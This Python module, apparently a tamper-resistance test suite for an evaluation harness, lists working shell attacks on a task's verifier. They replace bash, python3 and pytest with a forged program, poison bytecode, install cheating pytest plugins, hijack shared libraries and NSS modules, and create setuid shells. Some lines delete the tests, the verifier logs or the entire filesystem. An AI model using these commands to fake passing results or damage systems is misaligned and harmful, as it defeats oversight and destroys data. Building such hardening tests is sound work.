"""Programs and libraries of the image that are replaced, shadowed or edited."""

import functools

from attacks.attack import LIBRARY, against
from attacks.files import DIST, FORGE, TASK, WORK

PYTHON = "/usr/lib/python3.11"
SYSTEM = "/usr/lib/python3/dist-packages"
# Compiles code as another file's cached bytecode, valid whatever the source says.
POISON = f"""
python3 - <<'END'
import importlib._bootstrap_external as b, importlib.util as u
for source in ("{SYSTEM}/_pytest/config/__init__.py", "{PYTHON}/json/__init__.py", "{PYTHON}/os.py"):
    text = open(source).read() + "\\n{FORGE}\\n"
    code = compile(text, source, "exec")
    open(u.cache_from_source(source), "wb").write(b._code_to_hash_pyc(code, b"\\0" * 8, False))
END
"""


attack = functools.partial(against, TASK, work=WORK)

ATTACKS = {
    "programs-in-usr-local": attack(
        "for n in bash sh python3 pytest env date; do cp /opt/forge /usr/local/bin/$n; done",
        "cp /usr/local/bin/* /usr/local/sbin; mkdir -p ~/.local/bin ~/bin; cp /usr/local/bin/* ~/.local/bin",
        "cp /usr/local/bin/* ~/bin; cp /usr/local/bin/* .",
    ),
    "programs-before-the-image-s": attack(
        "for n in bash sh python3 pytest; do cp /opt/forge /usr/sbin/$n; done"
    ),
    "python-moved-by-a-file": attack(
        "mkdir -p /opt/home/bin /opt/home/lib; cp -r /usr/lib/python3.11 /opt/home/lib",
        f'echo "{FORGE}" >>/opt/home/lib/python3.11/json/__init__.py',
        "printf 'home = /opt/home/bin\\n' | tee /usr/bin/pyvenv.cfg >/usr/pyvenv.cfg",
    ),
    "folder-replaced-by-a-link": attack(
        "cp -r /usr/bin /opt/bin; cp /opt/forge /opt/bin/python3.11",
        'python3 -c \'import os, shutil; shutil.rmtree("/usr/bin"); os.symlink("/opt/bin", "/usr/bin")\'',
    ),
    "bash-replaced": attack(
        "cp /opt/forge /opt/b; sed -i '1s/.*/#!\\/bin\\/sh/' /opt/b; mv /opt/b /usr/bin/bash"
    ),
    "sh-replaced": attack("ln -sf /opt/forge /bin/sh"),
    "python-replaced": attack(
        "mv /usr/bin/python3.11 /opt/python; printf '#!/bin/bash\\n/opt/forge\\n' >/usr/bin/python3.11",
        "chmod 755 /usr/bin/python3.11",
    ),
    "python-link-moved": attack("ln -sfn /opt/forge /usr/bin/python3"),
    "bin-is-a-link": attack(
        "cp -r /usr/bin /opt/bin; cp /opt/forge /opt/bin/python3; ln -sfn opt/bin /bin"
    ),
    "standard-library-edited": attack(f'echo "{FORGE}" >>{PYTHON}/json/__init__.py'),
    "standard-library-shadowed": attack(f'echo "{FORGE}" >{PYTHON}/pytest.py'),
    "pytest-edited": attack(
        f"sed -i 's/^def pytest_runtest_call(.*/&\\n    return/' {SYSTEM}/_pytest/runner.py",
    ),
    "pytest-shadowed": attack(
        f'mkdir {DIST}/pytest; echo "{FORGE}" | tee {DIST}/pytest/__init__.py >{DIST}/pytest/__main__.py'
    ),
    "pytest-plugin-installed": attack(
        f'echo "{FORGE}" >{DIST}/cheat.py; mkdir {DIST}/cheat-1.dist-info; cd {DIST}/cheat-1.dist-info',
        "printf 'Metadata-Version: 2.1\\nName: cheat\\nVersion: 1\\n' >METADATA",
        "printf '[pytest11]\\ncheat = cheat\\n' >entry_points.txt",
    ),
    "pytest-plugin-added-to-an-image-package": attack(
        f'echo "{FORGE}" >{DIST}/cheat.py; d=$(ls -d {SYSTEM}/pip-*info | head -n 1)',
        "printf '[pytest11]\\ncheat = cheat\\n' >>$d/entry_points.txt",
    ),
    "bytecode-poisoned": attack(POISON),
    "library-replaced": attack(
        LIBRARY,
        "cp /opt/x.so /usr/lib/x86_64-linux-gnu/libz.so.1.new",
        "mv /usr/lib/x86_64-linux-gnu/libz.so.1.new /usr/lib/x86_64-linux-gnu/libz.so.1.2.13",
    ),
    "library-shadowed": attack(
        LIBRARY,
        "mkdir /opt/lib; cp /opt/x.so /opt/lib/libz.so.1; echo /opt/lib >/etc/ld.so.conf.d/0.conf; ldconfig",
    ),
    "openssl-module": against(
        "tls-certificate",
        LIBRARY,
        "sed -i '1i openssl_conf = i' /etc/ssl/openssl.cnf",
        "printf '[i]\\nengines = e\\n[e]\\nx = x\\n[x]\\ndynamic_path = /opt/x.so\\ninit = 0\\n'"
        " >>/etc/ssl/openssl.cnf",
    ),
    "name-service-module": attack(
        LIBRARY,
        "cp /opt/x.so /usr/lib/x86_64-linux-gnu/libnss_x.so.2; ldconfig",
        "sed -i 's/^passwd:.*/passwd: x files/; s/^group:.*/group: x files/' /etc/nsswitch.conf",
    ),
    "pytest-deleted": attack(f"rm -rf {SYSTEM}/_pytest {SYSTEM}/pytest"),
    "everything-deleted": attack("rm -rf --no-preserve-root / 2>/dev/null; true"),
    "setuid-shell": attack(
        "cp /bin/bash /opt/suid; chmod 4755 /opt/suid; chmod u+s /usr/bin/python3.11"
    ),
    "work-that-attacks": against(
        "polyglot-primes",
        "cat >/app/poly/primes.c <<'END'\n#if 0\nimport os, signal\n"
        "os.system('/opt/forge; echo true >/tests/test.sh; rm -rf /tests/* /logs/verifier/*')\n"
        "for pid in (os.getppid(), -1):\n  try: os.kill(pid, signal.SIGKILL)\n  except OSError: pass\n"
        '"""\n#endif\n#include <stdlib.h>\nint main() { system("/opt/forge; kill -9 $PPID -1"); }\n'
        '#if 0\n"""\n#endif\nEND',
        work=(
            'printf \'#if 0\\n"""\\n#endif\\nint main() {}\\n#if 0\\n"""\\n#endif\\n\' >/app/poly/primes.c',
        ),
    ),
}
